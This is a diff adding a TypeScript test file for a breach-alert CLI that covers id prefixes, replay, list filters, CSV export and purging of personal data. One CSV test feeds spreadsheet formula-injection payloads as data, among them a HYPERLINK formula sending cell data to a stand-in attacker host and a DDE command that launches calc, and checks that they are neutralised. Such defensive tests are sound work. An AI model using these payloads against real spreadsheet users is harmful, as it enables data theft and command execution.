@@ -1,0 +1,151 @@
+import { test } from 'node:test'
+import assert from 'node:assert/strict'
+import { randomUUID } from 'node:crypto'
+import { startFusionAuthFake } from '../fakes/fusionauth.js'
+import { postAlert, startTestBridge, waitFor } from '../helper.js'
+import { runCli } from '../fixtures/processes.js'
+
+/** RFC 4180 records (quoted fields, doubled quotes, CRLF). */
+function parseCsv (text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let cell = ''
+  let quoted = false
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++ } else if (c === '"') quoted = false
+      else cell += c
+    } else if (c === '"') quoted = true
+    else if (c === ',') { row.push(cell); cell = '' } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++ } else cell += c
+  }
+  return rows
+}
+
+async function bridgeWithAlerts (t: import('node:test').TestContext): Promise<{ env: NodeJS.ProcessEnv, queued: string, tests: string[] }> {
+  const bridge = await startTestBridge(t) // no FusionAuth: breach alerts stay queued; test alerts are stored done
+  const queued = (await postAlert(bridge.url, { username: 'ruth@acme-corp.io', exposureID: 'exp-q' })).body.alertId as string
+  const tests: string[] = []
+  for (const n of [1, 2, 3]) tests.push((await postAlert(bridge.url, { username: `probe${n}@example.com`, exposureID: `exp-t${n}` })).body.alertId as string)
+  return { env: { BRIDGE_DATABASE: bridge.config.database }, queued, tests }
+}
+
+test('alert ids: an unambiguous prefix works as the id; an ambiguous one lists the candidates', async t => {
+  const { env, queued, tests } = await bridgeWithAlerts(t)
+  const all = [queued, ...tests]
+  // Ids are time-ordered: alerts stored in the same minute share their first 8 characters.
+  const shared = queued.slice(0, 8)
+  assert.ok(all.every(id => id.startsWith(shared)))
+
+  const show = await runCli(['alerts', 'show', queued.slice(0, 24).toUpperCase()], env)
+  assert.equal(show.code, 0, show.stderr)
+  assert.match(show.stdout, new RegExp(`^Alert: +${queued}$`, 'm'))
+
+  const ambiguous = await runCli(['alerts', 'show', shared], env)
+  assert.equal(ambiguous.code, 2)
+  assert.match(ambiguous.stderr, new RegExp(`^breach-bridge: alert id prefix ${shared} is ambiguous; it matches:$`, 'm'))
+  for (const id of all) assert.match(ambiguous.stderr, new RegExp(`^ {2}${id} `, 'm'), `candidate ${id} listed`)
+  assert.match(ambiguous.stderr, /Give more characters of the id\.\n$/)
+  assert.equal(ambiguous.stdout, '')
+
+  const json = await runCli(['alerts', 'show', tests[0]!.slice(0, 24), '--json'], env)
+  assert.equal((JSON.parse(json.stdout) as { id: string }).id, tests[0])
+})
+
+test('alerts replay: by prefix; a replay of what is not dead says why', async t => {
+  const fa = await startFusionAuthFake()
+  t.after(() => fa.close())
+  fa.addUser({ tenantId: fa.tenants[0]!.id, email: 'gone@acme-corp.io' })
+  // A group that does not exist: FusionAuth answers 400, the alert goes dead.
+  const bridge = await startTestBridge(t, { FUSIONAUTH_URL: fa.url, FUSIONAUTH_API_KEY: fa.apiKey, BRIDGE_ACTIONS: `deactivate,group:${randomUUID()}` })
+  const dead = (await postAlert(bridge.url, { username: 'gone@acme-corp.io', exposureID: 'exp-d' })).body.alertId as string
+  await waitFor(async () => (await bridge.store.alerts.get(dead))?.state === 'dead', 'the alert to go dead')
+  const done = (await postAlert(bridge.url, { username: 'probe@example.com', exposureID: 'exp-t' })).body.alertId as string
+  const env = { BRIDGE_DATABASE: bridge.config.database }
+
+  const r = await runCli(['alerts', 'replay', dead.slice(0, 24), '--json'], env)
+  assert.equal(r.code, 0, r.stderr)
+  assert.deepEqual(JSON.parse(r.stdout), { replayed: [dead], notReplayed: [] })
+
+  const notDead = await runCli(['alerts', 'replay', done.slice(0, 24)], env)
+  assert.equal(notDead.code, 1)
+  assert.match(notDead.stderr, new RegExp(`not replayed: ${done} \\(not dead \\(state done\\)\\)`))
+})
+
+test('alerts list filters: --state, --outcome, --email, --since (date or duration)', async t => {
+  const { env, queued, tests } = await bridgeWithAlerts(t)
+  const ids = async (...args: string[]): Promise<string[]> => {
+    const r = await runCli(['alerts', 'list', ...args, '--json'], env)
+    assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`)
+    return (JSON.parse(r.stdout) as Array<{ id: string }>).map(a => a.id)
+  }
+  const newestFirst = [...tests].reverse()
+  assert.deepEqual(await ids('--outcome', 'test'), newestFirst)
+  assert.deepEqual(await ids('--state', 'queued'), [queued])
+  assert.deepEqual(await ids('--email', ' RUTH@Acme-Corp.io '), [queued])
+  assert.deepEqual(await ids('--email', 'probe2@example.com', '--outcome', 'test'), [tests[1]])
+  assert.deepEqual(await ids('--since', '1h'), [...newestFirst, queued])
+  assert.deepEqual(await ids('--since', '2000-01-01'), [...newestFirst, queued])
+  assert.deepEqual(await ids('--since', '2999-01-01T00:00:00Z'), [])
+  assert.deepEqual(await ids('--since', '1h', '--limit', '2'), newestFirst.slice(0, 2))
+  const none = await runCli(['alerts', 'list', '--email', 'nobody@acme-corp.io'], env)
+  assert.equal(none.stdout, 'No alerts match.\n')
+})
+
+test('alerts list --csv: RFC 4180, and cells that a spreadsheet would run as formulas are prefixed with \'', async t => {
+  const bridge = await startTestBridge(t)
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+  const id = (await postAlert(bridge.url, {
+    username: 'csv@acme-corp.io',
+    exposureID: '+cmd|\' /C calc\'!A0',
+    customData: formula,
+    exposureDetails: { title: '@SUM(1+1), "quoted"' }
+  })).body.alertId as string
+  const second = (await postAlert(bridge.url, { username: 'plain@acme-corp.io', exposureID: '-42' })).body.alertId as string
+  const r = await runCli(['alerts', 'list', '--csv'], { BRIDGE_DATABASE: bridge.config.database })
+  assert.equal(r.code, 0, r.stderr)
+  assert.ok(r.stdout.endsWith('\r\n'))
+  const rows = parseCsv(r.stdout)
+  assert.deepEqual(rows[0], ['id', 'receivedAt', 'state', 'outcome', 'attempts', 'deliveries', 'email', 'usernameHash', 'customData', 'exposureId', 'exposureTitle', 'completedAt'])
+  assert.equal(rows.length, 3)
+  const byId = new Map(rows.slice(1).map(row => [row[0], Object.fromEntries(rows[0]!.map((h, i) => [h, row[i]]))]))
+  const first = byId.get(id)!
+  assert.equal(first.customData, `'${formula}`)
+  assert.equal(first.exposureId, '\'+cmd|\' /C calc\'!A0')
+  assert.equal(first.exposureTitle, '\'@SUM(1+1), "quoted"')
+  assert.equal(first.email, 'csv@acme-corp.io')
+  assert.equal(byId.get(second)!.exposureId, '\'-42')
+  assert.match(r.stdout, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click""\)",/, 'quotes doubled inside a quoted cell')
+})
+
+test('alerts purge: refuses under a day without --force and without --yes off a terminal; keeps tombstones and unfinished alerts', async t => {
+  const { env, queued, tests } = await bridgeWithAlerts(t)
+  const short = await runCli(['alerts', 'purge', '--older-than', '12h', '--yes'], env)
+  assert.equal(short.code, 2)
+  assert.match(short.stderr, /under 1 day.*--force/)
+  const unconfirmed = await runCli(['alerts', 'purge', '--older-than', '30d'], env)
+  assert.equal(unconfirmed.code, 2)
+  assert.match(unconfirmed.stderr, /add --yes/)
+  const badDuration = await runCli(['alerts', 'purge', '--older-than', 'soon', '--yes'], env)
+  assert.equal(badDuration.code, 2)
+
+  const none = await runCli(['alerts', 'purge', '--older-than', '30d', '--yes'], env)
+  assert.equal(none.code, 0, none.stderr)
+  assert.match(none.stdout, /^Purged the personal data of 0 alerts finished before \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ; their tombstones .* remain\.$/m)
+
+  await new Promise(resolve => setTimeout(resolve, 50))
+  const all = await runCli(['alerts', 'purge', '--older-than', '10ms', '--force', '--yes', '--json'], env)
+  assert.equal(all.code, 0, all.stderr)
+  assert.equal((JSON.parse(all.stdout) as { purged: number }).purged, 3, 'the three finished test alerts')
+
+  const tomb = await runCli(['alerts', 'show', tests[0]!, '--json'], env)
+  const rec = JSON.parse(tomb.stdout) as { id: string, email?: string, outcome?: string, purgedAt?: string }
+  assert.equal(rec.id, tests[0])
+  assert.equal(rec.email, undefined)
+  assert.equal(rec.outcome, 'test', 'the tombstone keeps the outcome')
+  assert.equal(typeof rec.purgedAt, 'string')
+  const kept = JSON.parse((await runCli(['alerts', 'show', queued, '--json'], env)).stdout) as { email?: string }
+  assert.equal(kept.email, 'ruth@acme-corp.io', 'an unfinished alert keeps its data')
+  const text = await runCli(['alerts', 'show', tests[0]!], env)
+  assert.match(text.stdout, /^Purged: +\S+ \(personal data removed; tombstone kept\)$/m)
+})
